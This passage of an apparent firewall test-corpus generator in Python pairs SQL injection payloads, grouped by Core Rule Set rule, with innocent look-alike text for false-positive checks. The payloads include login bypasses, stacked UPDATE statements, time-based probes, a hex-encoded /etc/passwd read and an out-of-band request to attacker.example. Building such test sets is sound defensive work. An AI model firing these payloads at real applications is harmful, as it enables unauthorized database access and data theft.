        "' EXCEPT SELECT 1--",                                                           # pg/ms/lite
        "' AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH('x')--",                                  # ora
        "' || DBMS_PIPE.RECEIVE_MESSAGE('x',5) || '",                                    # ora
        "' UNION SELECT OVERLAY(passwd PLACING 'x' FROM 1) FROM users--",                # pg
        "1 GROUP BY name HAVING COUNT(*)>1",
        "' UNION SELECT u.name FROM users u LEFT JOIN roles r ON r.id=u.role_id--",
        "'; UPDATE users SET is_admin=1 WHERE id=1--",
        "' AND 1=(SELECT COUNT(*) FROM users u JOIN admins a USING(id))--",
        "1; INSERT INTO users SELECT * FROM staging--",
    ]),
    "942430": ("restricted-sql-char-anomaly", [
        "'||(SELECT/**/CHR(65)||CHR(66)/**/FROM/**/dual)||'",                            # ora
        "1'))/**/OR/**/(('1'='1",
        "')/**/UNION/**/SELECT/**/(1),(2),(3)--",
        "1'/**/AND/**/(SELECT/**/1/**/FROM/**/(SELECT/**/SLEEP(5))a)--",                 # my
        "'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % a SYSTEM "
        "\"http://attacker.example/\">%a;]>'),'/l') from dual)||'",                      # ora OOB
        "1;(SELECT*FROM(SELECT(SLEEP(5)))a)--",                                          # my
        "@@version||'-'||@@hostname||':'||@@port#",                                      # my
        "'+(SELECT TOP 1 CAST(name AS varchar) FROM sys.tables)+'--;'+'';--",            # ms
        "');SELECT(pg_sleep(5));--';--\"\"--",                                           # pg
        "'||(SELECT(CASE(WHEN(1=1))THEN(1)ELSE(0)END))||'--(('",                         # lite
        "{[('\"`;--#@&|!~^*+=<>)]}",                                                     # probe of each class
        "1'\"`;;--//**/##",
    ]),
    "942440": ("sql-comment-sequence", [
        "admin'--",
        "1/*",
        "1 -- -",
        "1#",
        "'/* comment */",
        "1;--",
        "x'-- x",
        "1 --comment",                                                                   # pg
        "1 /**/",
        "' --+",
        "' AND 1=1 --",                                                                  # ora
        "' /*",                                                                          # lite
        "\"#",
    ]),
    "942450": ("sql-hex-encoding", [
        "1 UNION SELECT 0x61646d696e",                                                   # my
        "' AND user()=0x726f6f74406c6f63616c686f7374#",                                  # my
        "1 AND name=0x61646d696e",                                                       # my
        "'; DECLARE @s VARCHAR(200); SET @s=0x73656c65637420404076657273696f6e; EXEC(@s);--",  # ms
        "' UNION SELECT X'61646D696E'#",                                                 # my
        "' AND decode('61646d696e','hex')::text<>''--",                                  # pg
        "' UNION SELECT convert_from('\\x61646d696e','UTF8')--",                         # pg
        "' UNION SELECT X'61646D696E'--",                                                # lite
        "' AND UTL_RAW.CAST_TO_VARCHAR2(HEXTORAW('61646D696E'))=user--",                 # ora
        "1 AND 0x3a3a=0x3a3a",                                                           # my
        "1 UNION SELECT UNHEX('61646d696e')",                                            # my
        "' UNION SELECT LOAD_FILE(0x2f6574632f706173737764)#",                           # my
    ]),
    "942510": ("sqli-bypass-ticks-backticks", [
        "`id` = 1 OR 1=1 -- ",
        "admin`#",
        "` OR 1=1 -- ",
        "' OR `a`=`a",
        "1 UNION SELECT `password` FROM `users`#",
        "`;SELECT 1;`",
        "name` DESC,IF(1=1,SLEEP(3),0)#",
        "x`) UNION SELECT 1#",
        "\u00b4 OR 1=1-- ",
        "\u2019 OR 1=1--",
        "\u00b4 or \u00b4\u00b4=\u00b4",
        "`email`<>'' OR `role`='admin",
    ]),
    "crs4-json": ("json-based-sqli", [
        "1 AND JSON_EXTRACT('{\"a\":1}','$.a')=1",                                       # my
        "' OR JSON_KEYS('{\"a\":1}') IS NOT NULL#",                                      # my
        "' OR '{\"a\":2}'::jsonb @> '{\"a\":2}'::jsonb--",                               # pg
        "' OR data->>'role'='admin'--",                                                  # pg / my 5.7
        "1 OR '{\"b\":1}' <@ '{\"b\":1,\"c\":2}'",                                       # pg
        "' OR '{\"a\":1}'::jsonb ? 'a'--",                                               # pg
        "1 AND JSON_VALUE('{\"x\":\"y\"}','$.x')='y'",                                   # ms/ora
        "' OR ISJSON('{}')=1--",                                                         # ms
        "' OR json_extract('{\"a\":1}','$.a')=1--",                                      # lite
        "' OR JSON_CONTAINS('[1,2]','1')#",                                              # my
        "1 OR JSON_OBJECT('k','v')=JSON_OBJECT('k','v')",                                # my
        "' OR JSON_EXISTS('{\"a\":1}','$.a')--",                                         # ora
        "' UNION SELECT json_agg(t)::text FROM users t--",                               # pg
    ]),
    "crs4-scientific": ("mysql-scientific-notation", [
        "' or 1.e(')='",
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70",
        "0e1union select user(),2#",
        "1.1e1union select null,version()#",
        "-1e0union select 1,2,3-- -",
        "1 union select 1.e0,2e0 from dual",
        "1e1or 1=1",
        "1.0e0or(1=1)",
        "' 1.e(1)union select 1#",
        "2e0 union select load_file(0x2f6574632f686f73746e616d65)",
        "1.e.1or 1=1-- -",
        "'1.e1' union select schema_name from information_schema.schemata#",
    ]),
    "crs4-auth4": ("basic-auth-bypass-4-4", [
        "admin' --",
        "' or 1=1 limit 1 -- -+",
        "\"or 1=1 or\"\"=\"",
        "' OR 'unusual' = 'unusual'",
        "') or '1'='1--",
        "' or ''=''--",
        "admin' or '1'='1'--",
        "1' or 1=1 /*",
        "'=0--+",
        "' or 0=0 #",
        "\" or 0=0 --",
        "or 1=1",
        "' or 'x'='x'; --",
        "admin\" #",
    ]),
}

# Authentication bypass split across two fields (login, then the secret field).
SPLIT_SUB = "sql-auth-bypass-split-query"
SPLIT_PAIRS = [
    ("admin'/*", "*/ OR 1=1#"),                                                          # my
    ("admin'--", "anything"),                                                            # ms/pg/ora/lite
    ("\\", " OR 1=1#"),                                                                  # my backslash escape
    ("' OR 1=1/*", "*/--"),
    ("admin' AND '1'='1'/*", "*/ --"),
    ("admin'/*", "*/ OR 'a'='a'--"),                                                     # pg
    ("'/*", "*/UNION SELECT 1,'admin','x'--"),
    ("x\\", "OR 1=1-- -"),                                                               # my
    ("admin'||'", "'||'"),                                                               # ora/pg concat
    ("\"/*", "*/ OR \"\"=\"\"#"),                                                        # my double-quoted
]

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Search-Filter",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
REAL_NAMES = ["q", "name", "sort", "filter", "id", "login", "order", "search"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_MODES = ["query", "form", "json", "xml", "header:User-Agent", "header:Referer", "header:X-Filter", "cookie"]
BOUNDARY = "----fortyseventhBoundary7MA4YWxk"


def _hval(value: str) -> str:
    """A header value: no CR, LF or NUL."""
    return value.replace("\r", " ").replace("\n", " ").replace("\0", " ")


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _xml(uri: str, tag: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><user><{tag}>{escape(value)}</{tag}></user>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _multipart(uri: str, field: str, value: str, filename: str | None = None) -> dict[str, Any]:
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\nt0k3n\r\n']
    if filename is None:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n')
    else:
        fn = _hval(filename).replace('"', "%22")
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; filename="{fn}"\r\n'
                     f"Content-Type: image/png\r\n\r\n{value}\r\n")
    parts.append(f"--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": uri, "body": "".join(parts),
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _json_value(sub: str, payload: str) -> Any:
    """MongoDB operator documents go into JSON as objects; everything else as the string it is."""
    if sub == "basic-mongodb-sqli" and payload.startswith("{"):
        return json.loads(payload)
    return payload


def _real(place: str, name: str, sub: str, p: str) -> dict[str, Any]:
    if place == "query":
        return _get(_query("/api/users", [(name, p), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: _json_value(sub, p)})
    if place == "cookie":
        return _with_headers(_get("/api/users?page=1"),
                             {"Cookie": f"session=abc123; {name}=" + urllib.parse.quote(p, safe="")})
    if place.startswith("header:"):
        return _with_headers(_get("/api/users?page=1"), {place.split(":", 1)[1]: _hval(p)})
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(p, safe="") + "=1&page=1")
    if place == "xml":
        return _xml("/api/users", name, p)
    if place == "multipart-field":
        return _multipart("/api/users/42/profile", "bio", p)
    if place == "multipart-filename":
        return _multipart("/api/users/42/avatar", "avatar", "\x89PNG-data", filename=p)
    return _get("/api/users/" + urllib.parse.quote(p, safe=""))


def _rs(mode: str, path: str, name: str, sub: str, p: str) -> dict[str, Any]:
    if mode == "query":
        return _get(_query(path, [(name, p)]))
    if mode == "form":
        return _form(path, [(name, p)])
    if mode == "json":
        return _json(path, {name: _json_value(sub, p)})
    if mode == "xml":
        return _xml(path, name, p)
    if mode == "cookie":
        return _with_headers(_get(path), {"Cookie": f"{name}=" + urllib.parse.quote(p, safe="")})
    return _with_headers(_get(path), {mode.split(":", 1)[1]: _hval(p)})


def _mongo_bracket(i: int, p: str) -> tuple[tuple[str, dict[str, Any]], tuple[str, dict[str, Any]]]:
    """A bracketed operator ("[$ne]=1") on a parameter name: login[$ne]=1 on our route, id[$ne]=1 elsewhere."""
    op, _, value = p.partition("=")
    real_q = "/api/users?" + urllib.parse.quote("login" + op, safe="[]$") + "=" + urllib.parse.quote(value, safe="")
    rs_name = RS_NAMES[(i // 2) % len(RS_NAMES)]
    path = RS_PATHS[i % len(RS_PATHS)]
    if i % 2:
        rs = ("rs-form", _form(path, [(rs_name + op, value)]))
    else:
        rs = ("rs-query", _get(path + "?" + urllib.parse.quote(rs_name + op, safe="[]$") + "="
                               + urllib.parse.quote(value, safe="")))
    return ("param-name", _get(real_q)), rs


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for _rule, (sub, payloads) in TITLES.items():
        for p in payloads:
            if sub == "basic-mongodb-sqli" and p.startswith("["):
                pairs = list(_mongo_bracket(i, p))
            else:
                place = REAL[i % len(REAL)]
                name = REAL_NAMES[(i // 3) % len(REAL_NAMES)]
                mode = RS_MODES[(i * 5 + 3) % len(RS_MODES)]
                rs_path = RS_PATHS[i % len(RS_PATHS)]
                rs_name = RS_NAMES[(i // 2) % len(RS_NAMES)]
                pairs = [(place, _real(place, name, sub, p)), ("rs-" + mode, _rs(mode, rs_path, rs_name, sub, p))]
            i += 1
            for placement, rec in pairs:
                n += 1
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub,
                       "placement": placement, "payload": p}
    for k, (login, secret) in enumerate(SPLIT_PAIRS):
        payload = f"login={login}&pin={secret}"
        real_kind = ("form", "query", "json")[k % 3]
        rs_kind = ("query", "form", "json")[(k + 1) % 3]
        path = RS_PATHS[k % len(RS_PATHS)]
        if real_kind == "form":
            real = _form("/admin/users/search", [("csrf_token", "t0k3n"), ("login", login), ("pin", secret)])
        elif real_kind == "query":
            real = _get(_query("/api/users", [("login", login), ("pin", secret)]))
        else:
            real = _json("/api/users", {"login": login, "pin": secret})
        if rs_kind == "form":
            rs = _form(path, [("user", login), ("pass", secret)])
        elif rs_kind == "query":
            rs = _get(_query(path, [("user", login), ("pass", secret)]))
        else:
            rs = _json(path, {"user": login, "pass": secret})
        for placement, rec in ((real_kind, real), ("rs-" + rs_kind, rs)):
            n += 1
            yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": SPLIT_SUB,
                   "placement": placement, "payload": payload}


# --------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently.
# --------------------------------------------------------------------------------------------------------------

CHAT = [
    "can someone review my PR? it adds a UNION of the two report queries, tests pass",
    "the nightly job SELECTs from the replica now, not the primary",
    "I'll be offline, need some sleep after the 3am incident",
    "benchmark results for the new laptop are in the sheet, 20% faster builds",
    "who owns the information_schema permissions on staging? asking for the migration",
    "the ORDER BY on created_at was missing an index, fixed in #4512",
    "please don't DROP anything on prod without a ticket :pray:",
    "Jenkins kept waiting for the DB lock, we added a 5s timeout",
    "MERGE statement works great for upserts on SQL Server, see the wiki",
    "we're on Postgres 16 now, pg_stat_statements is enabled",
    "the char limit on tweets is 280, on our bios it is 500",
    "O'Brien's team is taking over billing next sprint",
    "use `git log --oneline` to see the short history",
    "backticks in Markdown make `inline code`, triple backticks make blocks",
    "the `users` table got a new column `last_seen_at`",
    "sleep(5) in the test was flaky, replaced it with a proper wait",
    "our MongoDB cluster moved to Atlas, connection string is in vault",
    "the $ne operator in the Mongo query was a bug, should be $eq",
    "select your lunch option in the form by Friday please",
    "union meeting at 4pm in the main hall",
    "the benchmark showed MySQL 8 beats 5.7 on our workload",
    "who wants to present at the data guild? topic: window functions",
    "please order the list by priority, not by date",
    "limit 1 per customer on the promo, marketing confirmed",
    "shutdown of the old VPN is scheduled for March 3rd",
    "waiting for delay approval from finance",
    "the execute button in the admin is greyed out for viewers, by design",
    "I declared bankruptcy on my inbox after the holidays",
    "exec summary for Q3 is ready for review",
    "new hire Zoë D'Angelo starts Monday, say hi!",
    "can we match against the vendor's list before importing?",
    "hex colors for the brand: #0A2540 and #635BFF",
    "the value 0x1F is 31 in decimal, for the flags field",
    "integer overflow in the counter at 2147483647, we switched to bigint",
    "the magic number in the file header is 0x89504E47",
    "I/O wait is high on db-3, investigating",
    "-- just a heads up, the build is red",
    "#general is getting noisy, moving the discussion to #data",
    "grant me access to the dashboard please? @ops",
    "the insert into the events table is batched every 10s",
    "update: the delete button now asks for confirmation",
    "having trouble with the VPN again, anyone else?",
    "the group by in the finance report doubles rows when joining invoices",
    "I like Oracle's docs, they are thorough",
    "SQLite is perfect for the mobile offline cache",
    "SQL Server licensing renewal is due in June",
    "MariaDB galera cluster survived the failover test",
    "char broil grill for the team BBQ is ordered",
    "our user agent string for the crawler is in the README",
    "the referer header is stripped by our CDN for privacy",
    "exists check before insert avoids the duplicate key error",
    "the sleep study app launched in the App Store",
    "1 = 1 in the feature flag config means on",
    "the or-gate in the circuit demo was wired wrong, lol",
    "truncate the log table on dev if it gets too big, never on prod",
    "the NULL vs empty string debate continues...",
    "alter the meeting to 3pm? conflicts with the standup",
    "we ship the cast of characters list to the printer today",
    "concat of first and last name happens in the view layer",
    "convert the PDF to docx for legal, they prefer Word",
    "the declare-a-winner vote for the hackathon closes at noon",
    "pipes in the CLI: `cat log | grep ERROR | wc -l`",
    "the 'load file' button imports CSVs up to 50 MB",
    "into the weekend! see you all Monday",
    "the procedure for onboarding is in Notion",
    "function names should be snake_case in the Python service",
    "the case when a user has no email is handled by the fallback",
    "if the rollout fails, roll back and ping #ops",
    "the version bump to 2.0 is ready; changelog in the release notes",
    "BENCHMARK.md in the repo has the method and the numbers",
    "the timeout for the waitfor in the legacy SQL job is 5 minutes",
    "table names in MySQL are case sensitive on Linux, watch out",
    "the ASCII art banner in the CLI is back",
    "the schema registry is now at v2",
    "what's the diff between LIKE and ILIKE? case sensitivity in Postgres",
    "the regex in the validator rejects emails with + in them, fixing",
    "we use JSON columns for the preferences now",
    "JSON_EXTRACT is slow on the big table, add a generated column",
    "Mongo's aggregation pipeline is handy for the report",
    "the IIF function in Excel works like IF",
    "the decode step of the pipeline handles base64",
    "the rand seed for the tests is fixed at 42",
    "the floor plan for the new office is on the shared drive",
    "quick math: 2 > 1, unless you're in JavaScript land",
    "the attach button for screenshots is in the corner",
    "pragma: we ship what works and iterate",
    "the handler for the webhook retries three times",
    "lock the laptop when you leave your desk please",
    "the show tables output in the docs is outdated",
    "desc order for the leaderboard, highest first",
    "set names for the conference badges by Wednesday",
    "rename the channel to #data-platform?",
    "the backdoor of the building is locked after 7pm",
    "sys admin on call this week is Priya",
    "the xp points system in the training app is fun",
    "we need a dba for the migration weekend",
    "the master branch was renamed to main long ago",
    "pg is short for PostgreSQL in our runbooks",
    "OK to merge? two approvals already",
    "Executing the plan immediately after the standup",
    "sleep well everyone, long day tomorrow",
    "my benchmark: 42 req/s on the Pi, not bad",
    "the union of both sets gives us 1,204 unique customers",
    "selected candidates will hear back by Friday",
    "the shutdown button in the kiosk app is hidden behind a long press",
    "pg_dump of staging finished in 12 minutes",
    "the waitlist for the workshop is full",
    "you can hex-edit the save file, it's fun",
    "information about the schema change is in RFC-12",
    "the sys table docs for SQL Server are linked in the wiki",
    "Let's keep the `--dry-run` flag on by default",
    "use `/* eslint-disable */` sparingly please",
    "the `#include` order matters in the C module",
    "'quoted' strings in the YAML need escaping sometimes",
    "the \"Select all\" checkbox in the table is broken on Safari",
    "double quotes \"like this\" break the CSV export",
    "Rock 'n' roll night on Friday!",
    "the 80's playlist is in the shared Spotify",
    "user's guide is updated; admin's guide next",
    "that's what she said -- classic",
    "cost: $1,200 for the licences, approved",
    "the ratio is 3:1, reads to writes",
    "meeting room B (2nd floor) is booked",
    "email me at jo@example.org if Slack is down",
    "percentages: 50% done, 50% to go",
    "the sum of all fears is a good book",
    "`SELECT count(*) FROM orders` takes 3s on prod, we need an index",
    "tip: `EXPLAIN ANALYZE` shows the real timings in Postgres",
    "remember `SET statement_timeout = '30s'` for the ad-hoc queries",
    "the migration adds `ALTER TABLE invoices ADD COLUMN due_at timestamptz`",
    "the ORM generates `LIMIT 20 OFFSET 40` for page 3",
    "the bug was a missing `WHERE tenant_id = $1` in the repository",
    "use parameterized queries, never string concat, in the new service",
    "the sqlite file for the tests lives in tmp/test.db",
    "the `pg_sleep` in the healthcheck was removed, it slowed startup",
    "remember the MongoDB $regex queries need an index too",
    "Oracle's ROWNUM vs FETCH FIRST: we use FETCH FIRST now",
    "the dual table in Oracle confuses newcomers every time",
    "SQL Server's TOP 10 is LIMIT 10 elsewhere",
    "the master DB on SQL Server should never hold app tables",
    "the xp_cmdshell setting stays off on all servers, audited",
    "our Grafana panel for slow queries is fixed",
    "the sleep timer on the conference room display is 10 minutes",
    "the match against the league leaders is on Saturday",
    "the union rep is joining the all-hands",
    "she said 'or else' jokingly, relax",
    "I'd say it's 50/50 whether we ship Friday",
    "the ticket says 'drop table tennis from the perks list' lol",
    "new benchmark for the search API: p99 at 120 ms",
    "the character set of the export is UTF-8",
    "shutdown -r now on the build box fixed it",
    "don't forget the semicolon; JavaScript forgives, SQL doesn't",
    "the `||` operator concatenates strings in Postgres, confused me at first",
    "MySQL treats `||` as OR unless PIPES_AS_CONCAT is set",
    "I read the chapter on JSON in Postgres, `->>` returns text",
]

SEARCHES = [
    "union square apartments", "select comfort mattress", "sleep apnea clinic", "benchmark mutual fund",
    "O'Reilly media", "drop shipping suppliers", "order by date", "char broil grill", "mongo db course",
    "shutdown procedure windows", "merge pdf files", "execute order 66", "match of the day", "declare independence",
    "alter ego costume", "exec chair", "information schema", "master bedroom ideas", "sys admin jobs",
    "having a baby checklist", "group by sql", "insert coin arcade", "update firmware", "delete account",
    "create account", "grant writing", "truncate text css", "between the lines", "exists or not",
    "like button", "where is my order", "from paris with love", "into the wild", "table tennis",
    "D'Angelo", "Mc'Donald", "St. John's wort", "rock 'n' roll", "Guns N' Roses", "it's a wonderful life",
    "waitfor", "delay repay", "time zone converter", "hex to rgb", "0x1f to decimal", "ascii table",
    "character set utf8", "json formatter", "regex tester", "sleep sounds", "benchmark gpu", "pg county library",
    "oracle cloud free tier", "sql server express", "sqlite browser", "mariadb vs mysql", "postgres docker",
    "1 = 1", "a or b", "cats and dogs", "salt & pepper", "50% off", "C# tutorial", "F# vs OCaml",
    "node.js", "user agent string", "referer policy", "null island", "case study", "if then else",
    "decode base64", "convert mp4 to mp3", "cast iron pan", "concat strings python", "load file error",
    "outfile", "dump truck rental", "procedure manual", "function of the liver", "rand to usd",
    "floor lamp", "abs workout", "greatest hits 2000s", "coalesce meaning", "nvl function",
    "instr guitar", "typeof javascript", "random blob", "rownum oracle", "top 10 movies",
    "limit 1 per customer", "offset printing", "show tables", "desc meaning", "lock screen",
    "handler job", "set names", "rename file", "attach email", "pragma definition",
    "begin again", "end of the road", "commit message", "rollback", "savepoint",
    "`backtick` key", "tick tock", "quote of the day", "\"exact phrase\"", "'single quotes'",
    "--help", "#hashtag", "/* comment */", "semi;colon", "1.e10 meaning", "scientific notation",
    "2147483647", "4294967296", "18446744073709551615", "2.2250738585072011e-308 float",
]

PROSE = [
    "Customer asked to merge two accounts; verified by phone.",
    "Order placed by O'Hara, shipped by union courier.",
    "Please select a new plan before the trial ends.",
    "User reports sleep mode drains battery; sent to support.",
    "Benchmark scores attached for the procurement review.",
    "Account locked after 5 attempts, unlocked on request.",
    "Dropped the duplicate record; kept the older one.",
    "Ordered by priority: billing, then onboarding, then docs.",
    "Executive sponsor: D'Souza. Budget: $12,000.",
    "The user's email had a typo (gmial.com), corrected.",
    "Shutdown of the legacy portal announced for May 1.",
    "Waiting for delay compensation from the airline.",
    "Match against the CRM list found 12 duplicates.",
    "Character limit exceeded in the bio; asked to shorten.",
    "Table booked for 8 at the union hall.",
    "User asked how to delete their account and data.",
    "Updated the address: 12 O'Connell St, Dublin.",
    "Insert the new terms into the welcome email.",
    "Grant access to the analytics workspace for Kim.",
    "Having issues with 2FA; reset the authenticator.",
    "Group by region shows EMEA growing fastest.",
    "Truncated export fixed by raising the size limit.",
    "Created the sandbox tenant for the pilot.",
    "Alter the invoice date to the 1st, per finance.",
    "Declared the winner of the raffle: Ana.",
    "Exec team wants the report by Monday.",
    "Cast and crew list for the company video is final.",
    "Convert the quote to an order once signed.",
    "Load the file from the shared drive, not email.",
    "Procedure followed: identity check, then reset.",
    "Function of this account: shared inbox for sales.",
    "Floor 3 access card reissued.",
    "Random sample of 50 tickets reviewed, all fine.",
    "Limit of 3 seats on the starter plan explained.",
    "Showed the user the table view and the filters.",
    "Description updated: 'Best coffee in town -- since 1999'.",
    "Lock icon on the profile means the field is managed by SSO.",
    "Handler for the escalation: Tomasz.",
    "Set names on the badges, printed.",
    "Renamed the workspace to 'North & South'.",
    "Attached the contract (v2) to the deal.",
    "Begin the migration on Saturday at 06:00 UTC.",
    "End of trial reminder sent.",
    "Commit to the SLA of 99.9% confirmed.",
    "Rollback of the pricing change requested by sales.",
    "Customer uses MongoDB and Postgres; both integrations enabled.",
    "Customer's DBA asked about our SQL Server connector.",
    "Oracle E-Business Suite integration quote sent.",
    "SQLite export requested for offline analysis.",
    "MySQL connector version 8.0.33 confirmed compatible.",
    "Ticket #4412: 'sleep' button missing on the kiosk.",
    "Ticket #4413: union dues deduction wrong on payslip.",
    "Ticket #4414: select dropdown cut off on mobile.",
    "Ticket #4415: the 'Or' in the filter builder is confusing.",
    "Ticket #4416: apostrophes in names (O'Neil) shown as &#39;.",
    "Ticket #4417: hex color picker accepts 0x prefix now.",
    "Ticket #4418: 'Execute' label renamed to 'Run'.",
    "Ticket #4419: backtick in notes breaks markdown preview.",
    "Ticket #4420: JSON export of the report has trailing commas.",
    "Ticket #4421: the -- separator in CSV titles confuses Excel.",
    "Ticket #4422: benchmark page shows 2147483647 as max.",
    "Ticket #4423: dates sorted as text in the order by column.",
    "Ticket #4424: 'waitfor it' meme in the release notes, remove.",
    "Ticket #4425: customer typed 1=1 in the search box, got nothing, fine.",
    "Ticket #4426: MERGE of two orgs keeps both owners.",
    "Ticket #4427: the character counter ignores emoji.",
    "Ticket #4428: match score shows NaN when empty.",
    "Ticket #4429: shutdown notice banner overlaps the header.",
    "Ticket #4430: the 'drop' in drag-and-drop fails on Firefox.",
]

NAMES = [
    "Seán O'Brien", "Zoë D'Angelo", "Jean-Luc Picard", "Mary-Kate O'Neil", "Liam McDonald",
    "Aoife Ní Bhriain", "D'Arcy Carden", "Conan O'Connor", "Ngũgĩ wa Thiong'o", "Brian Select",
    "Ann Union", "Tom Sleep", "Bea Benchmark", "Dan Drop", "Ora Cle", "Mongo Santamaría",
    "Sequel Pro", "Max Char", "Rex Merge", "Jo Match", "Ed Execute", "Grant Wood", "Alter Bridge",
    "Delia Delete", "Otto Update", "Ida Insert", "Herb Having", "Gus Group", "Len Limit", "Ora Order",
    "Cass Case", "Wanda When", "Elsa Else", "Theo Then", "Iris If", "Della Declare", "Tess Table",
    "Drew Dual", "Sid Sys", "Vera Version", "Bobby Tables", "Lou Like", "Rose Regexp", "Gil Glob",
    "Ella Exists", "Nola Null", "Trudy True", "Fay False", "Cory Concat", "Cody Convert",
]

ADDRESSES = [
    "1 Union Street, Apt #4, San Francisco, CA 94133", "12-14 Exchange Place, Jersey City, NJ",
    "O'Connell Bridge House, D'Olier St, Dublin 2", "221B Baker St., London NW1 6XE",
    "Select Business Park, Unit 7, Leeds LS1", "Sleepy Hollow Rd 3, Tarrytown, NY",
    "Merge Lane 8, Oxford", "Table Mountain Rd, Cape Town 8001", "Order Street 10/2, Warsaw",
    "Rue de l'Église 5, 75004 Paris", "Via dell'Orso 12, Roma", "Place d'Armes, Québec",
    "1-2-3 Shibuya, Shibuya-ku, Tokyo 150-0002", "Calle 'El Sol' #45, Madrid",
    "PO Box 2147483647, Anchorage, AK", "Drop Zone Hangar 2, Perris, CA", "Benchmark Plaza, Floor 3, Austin, TX",
    "Match Street 1; Building B, Manchester", "Grant Ave & Pine St, SF", "Exchange Tower -- 30th floor, Toronto",
    "Char Lane 4, Bristol", "Waitfor Farm, Devon", "Having Close 9, Leeds", "Shutdown Hill 2, Kent",
    "Declaration Ave 1776, Philadelphia, PA", "Delete Lane (rear entrance), Cork",
    "St. Mary's Rd, Apt 5 \"The Mews\", Cambridge", "Unit 4/12 Sys Park, Sydney NSW 2000",
    "Case Postale 12, 1211 Genève", "Alter Markt 1, 50667 Köln", "Am Hex 3, Hamburg",
    "Oracle Parkway 500, Redwood City, CA", "Mongo Street 21, Lagos", "Lite Lane 6, Brighton",
    "Union Square West 33, New York, NY 10003", "Select Street 2, Auckland 1010",
    "Sleep Inn, Room 101, Denver, CO", "Concat Court 3, Reading", "Insert Road 4, Slough",
    "Update Plaza, Suite #200-B, Boston, MA",
]

URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/miscellaneous-functions.html#function_sleep",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://www.postgresql.org/docs/current/sql-merge.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://mariadb.com/kb/en/benchmark/",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://www.example.com/search?q=union+station&sort=date",
    "https://shop.example.org/products?order=price_asc&limit=20",
    "https://news.example.net/2024/05/sleep-science-explained",
    "https://blog.example.com/posts/benchmarking-postgres-vs-mysql",
    "https://github.com/acme/db-tools/blob/main/scripts/select_users.sql",
    "https://maps.example.com/?q=Union+Square,+San+Francisco",
    "https://www.example.co.uk/o'reilly-books",
    "https://docs.example.io/api/v2/users?filter=active&sort=-created_at",
]

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "PostmanRuntime/7.39.0",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
]

REFERERS = [
    "https://www.google.com/search?q=union+select+furniture",
    "https://www.bing.com/search?q=sleep+tracker+benchmark",
    "https://duckduckgo.com/?q=o%27reilly+sql+cookbook",
    "https://app.example.com/admin/users?order=name&dir=desc",
    "https://app.example.com/reports?group=region&having=sales",
    "https://news.ycombinator.com/item?id=2147483647",
    "https://www.reddit.com/r/SQL/comments/abc123/union_vs_union_all/",
    "https://stackoverflow.com/questions/1234/how-to-merge-two-tables",
    "https://app.example.com/search?q=drop+shipping",
    "https://t.co/AbC123xYz",
]

COOKIES = [
    "session=abc123; theme=dark; lang=en-GB",
    "session=abc123; sort=created_at%20desc; page_size=50",
    "session=abc123; last_search=union%20square",
    "session=abc123; prefs=%7B%22tz%22%3A%22Europe%2FDublin%22%7D",
    "session=abc123; consent=analytics%3Dno%26ads%3Dno",
    "session=abc123; recent=O%27Brien",
    "session=abc123; filter=status%3Aactive",
    "session=abc123; _ga=GA1.2.2147483647.1719000000",
    "session=abc123; view=table; density=compact",
    "session=abc123; cart=sku-0x1F%2Csku-0x2A",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    for term in SEARCHES:
        n += 1
